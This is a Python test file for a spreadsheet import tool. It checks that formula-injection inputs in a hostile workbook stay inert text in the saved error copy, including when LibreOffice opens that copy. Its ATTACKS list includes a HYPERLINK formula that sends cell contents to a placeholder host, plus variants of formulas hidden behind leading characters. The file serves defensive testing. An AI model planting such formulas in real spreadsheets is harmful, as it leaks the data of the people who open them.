"""The error workbook (--errors-out, the window's "save highlighted copy") goes through the same
text guard as every workbook written: a rejected ``=HYPERLINK(…)`` — even after a space or a tab —
and a sheet named ``=1+1`` stay text, in the listing and in the copy; LibreOffice, which evaluates
formulas on loading, shows the text itself. The copy holds values, never the original's formulas."""

from __future__ import annotations

import os
import shutil
import subprocess
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from zgc_io_helpers import CODE_A, firm_rows, header

from zgc_desk.cli import main
from zgc_desk.io.error_workbook import CELL_FILL

pytestmark = pytest.mark.usefixtures("english")

ATTACKS = ['=HYPERLINK("http://example.invalid/?d="&A1,"click")', ' =1+1', '\t=2+2', '+3+3', '-4+4', '@SUM(A1)',
           '＝5+5']


def _hostile_book(path):
    workbook = Workbook()
    workbook.remove(workbook.active)
    firms = workbook.create_sheet("企业信息")
    for row in firm_rows((CODE_A, "北京甲科技有限公司")):
        firms.append(row)
    patents = workbook.create_sheet("专利")
    keys = ["firm_credit_code", "application_no", "kind", "title", "filing_date"]
    patents.append([header("patent", k) for k in keys])
    for attack in ATTACKS:
        cell_values = [CODE_A, attack, attack, "一种芯片", attack]
        patents.append(cell_values)
    patents.append([CODE_A, "=1+1", "发明", "=CONCAT(\"a\",\"b\")", "2021-03-05"])  # live formulas in the original
    workbook.create_sheet("=1+1").append(["not a sheet of the layout"])
    workbook.save(path)
    return path


def _formulas(path) -> list[str]:
    """Every cell of the file stored as a formula (<f> in the sheet XML, or openpyxl's type 'f')."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name) or b"<f " in archive.read(name):
                found.append(name)
    workbook = load_workbook(path)
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            found += [f"{ws.title}!{cell.coordinate}" for cell in row if cell.data_type == "f"]
    return found


def test_no_rejected_text_becomes_a_formula(tmp_path, capsys):
    book = _hostile_book(tmp_path / "hostile.xlsx")
    out = tmp_path / "errors.xlsx"
    assert main(["--lang", "en", "import", str(book), "--db", str(tmp_path / "p.db"), "--errors-out", str(out)]) == 1
    capsys.readouterr()
    assert _formulas(out) == []
    workbook = load_workbook(out)
    assert workbook.sheetnames == ["Errors", "企业信息", "专利", "=1+1"]
    listing = [row for row in workbook["Errors"].iter_rows(min_row=2)]
    values = {cell.value for row in listing for cell in row if isinstance(cell.value, str)}
    assert {a.strip() for a in ATTACKS} <= {v.strip() for v in values}
    assert all(cell.quotePrefix for row in listing for cell in row
               if isinstance(cell.value, str) and cell.value.lstrip().startswith(("=", "+", "-", "@", "＝")))
    patents = workbook["专利"]
    assert patents["B2"].value == ATTACKS[0] and patents["B2"].data_type == "s" and patents["B2"].quotePrefix
    assert patents["B2"].fill.fgColor.rgb.endswith(CELL_FILL.fgColor.rgb[-6:])
    assert workbook["=1+1"]["A1"].value == "not a sheet of the layout"


@pytest.mark.external
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_shows_the_text_not_a_result(tmp_path, capsys):
    book = _hostile_book(tmp_path / "hostile.xlsx")
    out = tmp_path / "errors.xlsx"
    main(["--lang", "en", "import", str(book), "--db", str(tmp_path / "p.db"), "--errors-out", str(out)])
    capsys.readouterr()
    csv_dir = tmp_path / "csv"
    subprocess.run(["soffice", "--headless", "--norestore", "--convert-to",
                    "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
                    "--outdir", str(csv_dir), str(out)], check=True, capture_output=True, timeout=180,
                   env={**os.environ, "HOME": str(tmp_path)})
    text = "\n".join(p.read_text(encoding="utf-8") for p in csv_dir.glob("*.csv"))
    assert "HYPERLINK" in text and "click" in text
    for attack in ("=1+1", "=2+2", "+3+3", "-4+4", "@SUM(A1)", "＝5+5"):  # evaluated, they would be numbers
        assert attack in text, attack
